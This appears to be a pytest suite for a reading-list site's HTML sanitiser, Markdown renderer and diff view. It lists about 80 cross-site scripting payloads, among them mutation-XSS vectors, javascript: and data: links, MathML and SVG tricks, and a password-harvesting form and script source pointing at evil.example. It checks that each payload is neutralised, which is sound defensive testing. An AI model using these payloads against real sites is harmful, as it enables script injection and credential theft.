"""Nothing that people write can do anything: neither through Markdown, nor straight at the sanitiser."""

import re

import pytest

from readlist_site.base.text import diff, render
from readlist_site.base.text.sanitise import sanitise
from tests.base.text.html import Page, undirected

HARMLESS = {
    "alt",
    "aria-label",
    "aria-labelledby",
    "class",
    "dir",
    "href",
    "id",
    "rel",
    "role",
    "scope",
    "start",
    "tabindex",
}
MATH = {"accent", "accentunder", "depth", "display", "displaystyle", "form", "height", "largeop", "linethickness"}
MATH |= {"lspace", "mathvariant", "maxsize", "minsize", "movablelimits", "rspace", "scriptlevel", "separator"}
MATH |= {"stretchy", "symmetric", "voffset", "width", "columnspan", "rowspan", "fence"}
FORBIDDEN = {"script", "style", "iframe", "object", "embed", "svg", "input", "form", "base", "link", "meta"}
FORBIDDEN |= {"annotation", "annotation-xml", "semantics", "mglyph", "malignmark", "maction", "template", "noscript"}
FORBIDDEN |= {"title", "textarea", "math-field", "video", "audio", "details", "select", "option", "xmp", "plaintext"}

ATTACKS = {
    "script": "<script>alert(1)</script>",
    "script in capitals": "<ScRiPt src=//evil.example></sCrIpT>",
    "unfinished script": "<script src=//evil.example",
    "image": "<img src=x onerror=alert(1)>",
    "image, odd slashes": "<img/src/onerror=alert(1)>",
    "svg": "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>",
    "svg script": "<svg><script>alert(1)</script></svg>",
    "handler": '<p onclick="alert(1)" onfocus=alert(1) autofocus tabindex=0>x</p>',
    "handler on ours": '<div class="formula" tabindex="0" onfocus="alert(1)">x</div>',
    "style": '<p style="background:url(javascript:alert(1))">x</p>',
    "style element": "<style>@import 'https://evil.example/x.css';</style>",
    "frame": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
    "form": '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
    "base": '<base href="https://evil.example/"><a href="x">x</a>',
    "meta": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "link": '<a href="javascript:alert(1)">x</a>',
    "link, spaced": '<a href=" java\tscript\n:alert(1)">x</a>',
    "link, entities": '<a href="&#106;&#97;vascript&colon;alert(1)">x</a>',
    "link, data": '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    "link, vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "link, file": '<a href="file:///etc/passwd">x</a>',
    "link, no scheme": '<a href="//evil.example" target=_blank ping="https://evil.example">x</a>',
    "link to our pages": '<a href="/accounts/logout/">x</a>',
    "id of ours": '<p id="main">x</p><a id="main" name="main">x</a>',
    "class of ours": '<p class="dialog">x</p><span class="hidden-text skip">x</span><div class="conflict">x</div>',
    "label of ours": '<div class="table" aria-label="Sign in again">x</div>',
    "direction": '<p dir="rtl ltr">x</p><bdi dir="x">y</bdi><bdo dir="rtl">z</bdo>',
    "comment": "<!--><img src=x onerror=alert(1)>-->",
    "nested comments": "<!-- <!-- --> <img src=x onerror=alert(1)> -->",
    "comment, odd end": "<!--x--!><img src=x onerror=alert(1)>",
    "cdata": "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "instruction": "<?xml-stylesheet href='javascript:alert(1)'?>",
    "math link": '<math href="javascript:alert(1)"><mtext>x</mtext></math>',
    "math xlink": '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "math action": '<math><maction actiontype="statusline#https://evil.example"'
    ' xlink:href="javascript:alert(1)">x</maction></math>',
    "math handler": "<math><mi onclick=alert(1)>x</mi></math>",
    "math style": '<math><mi style="font-size:900em">x</mi></math>',
    "math image": '<math><mglyph src="https://evil.example/x.png"></mglyph></math>',
    "math annotation": '<math><semantics><mi>x</mi><annotation-xml encoding="text/html"><img src=x'
    " onerror=alert(1)>"
    "</annotation-xml></semantics></math>",
    "math annotation, svg": "<math><annotation-xml"
    ' encoding="image/svg+xml"><svg><script>alert(1)</script></svg></annotation-xml></math>',
    "mutation: style in math": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1'
    ' onerror=alert(1)&gt;">',
    "mutation: form in math": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "mutation: option": "<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a"
    ' title="</style>'
    "<img src='#' onerror='alert(1)'>\">",
    "mutation: svg style": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "mutation: noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "mutation: namespaces": "<svg><foreignObject><math><mi><mglyph><style><!--</style><img src=x"
    " onerror=alert(1)>--></math>",
    "mutation: textarea": '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    "mutation: xmp": '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    "template": "<template><img src=x onerror=alert(1)></template>",
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "null": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "md link": "[x](javascript:alert(1))",
    "md link, spaced": "[x]( javascript:alert(1))",
    "md link, capitals": "[x](JaVaScRiPt:alert(1))",
    "md link, entity": "[x](&#x6A;avascript:alert(1))",
    "md link, escaped": r"[x](java\script:alert(1))",
    "md link, data": "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "md link, quotes": '[x](https://x.org"onmouseover="alert(1))',
    "md title": "[x](https://x.org '\"onmouseover=\"alert(1)')",
    "md reference": "[x]\n\n[x]: javascript:alert(1)",
    "md autolink": "<javascript:alert(1)>",
    "md image": "![x](javascript:alert(1))",
    "md image, svg": "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "md image, quotes": '![" onerror="alert(1)](https://x.org/a.png)',
    "md fence": '```"><img src=x onerror=alert(1)>\nx\n```',
    "md footnote": 'x[^"><img/src/onerror=alert(1)>]\n\n[^"><img/src/onerror=alert(1)>]: y',
    "md code": "`<img src=x onerror=alert(1)>`",
    "md table": "| <img src=x onerror=alert(1)> |\n|---|\n| x |",
    "formula text": r"$\text{<img src=x onerror=alert(1)>}$",
    "formula link": r"$\href{javascript:alert(1)}{x}$",
    "formula html": r"$\html{<img src=x onerror=alert(1)>}$ $\class{skip}{x}$ $\style{color:red}{x}$",
    "formula id": r"$$\begin{align}x\label{main\"onclick=\"alert(1)}\end{align}$$",
    "formula colour": r"$\color{red;background:url(https://evil.example)}x$ $\textcolor{#f00}{y}$",
    "formula broken": r"$\frac{<script>alert(1)</script>}$",
    "formula huge": r"$\hspace{9999em}\raisebox{-9999em}{x}\kern-9999em$",
    "formula closing": r"$</math><img src=x onerror=alert(1)>$",
}


def assert_harmless(html: str) -> None:
    assert sanitise(html) == html, "it would change once more"
    for tag, attributes in Page(html).elements:
        assert tag not in FORBIDDEN
        assert ":" not in tag
        for name, value in attributes.items():
            assert name in HARMLESS | MATH | ({"src", "loading"} if tag == "img" else set()), f"{tag} {name}"
            if name == "src":
                assert re.fullmatch(r"/images/[0-9a-f]{32}/\d+x\d+/", value), value
            elif name == "href":
                assert re.match(r"https?://|mailto:|#fn(ref)?-", value, re.IGNORECASE), value
                assert attributes["rel"] == "nofollow noopener noreferrer ugc"
            elif name == "dir":
                assert value in ("auto", "ltr", "rtl")
            elif name == "id":
                assert re.fullmatch(r"fn(ref)?-[\w-]+", value)
            elif name == "class":
                assert not {"hidden-text", "skip", "dialog", "conflict", "button"} & set(value.split())
            elif name in ("width", "height", "voffset", "lspace", "rspace"):
                assert re.fullmatch(r"-?\d{0,2}(\.\d+)?(em|ex|px|pt|%)?", value)


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_an_attack_in_a_text_becomes_harmless(attack):
    for source in (attack, f"> - {attack}", f"a **{attack}** b", f"| {attack} |\n|---|\n| {attack} |"):
        assert_harmless(render(source).html)


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_an_attack_on_the_sanitiser_becomes_harmless(attack):
    for html in (attack, f"<p>{attack}</p>", f"<math><mtext>{attack}</mtext></math>", f"<table><tr><td>{attack}"):
        assert_harmless(sanitise(html))


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_an_attack_in_what_is_compared_becomes_harmless(attack):
    for old, new in (("<p>x</p>", attack), (attack, "<p>x</p>"), (attack, f"<p>y</p>{attack}<p>z</p>")):
        assert_harmless(diff(old, new).html)


def test_what_is_ours_passes_through():
    html = undirected(
        render(
            "a[^1] **b** ~~c~~ `d` $e$\n\n$$\\begin{aligned}f&=g\\end{aligned}$$\n\n- [ ] h\n\n"
            "| i |\n|--:|\n| j |\n\n```python\nk = 1  # l\n```\n\n[^1]: m"
        ).html
    )
    for piece in (
        '<sup class="noteref"><a href="#fn-',
        '<a class="noteback" href="#fnref-',
        '<span class="nowrap"><math>',
        '<math display="block"><mtable displaystyle="true" scriptlevel="0">',
        '<li class="task"><span class="box" role="img" aria-labelledby="word-open">',
        '<div class="table" tabindex="0" role="group" aria-labelledby="word-table">',
        '<pre tabindex="0" role="group" aria-label="Python">',
    ):
        assert piece in html
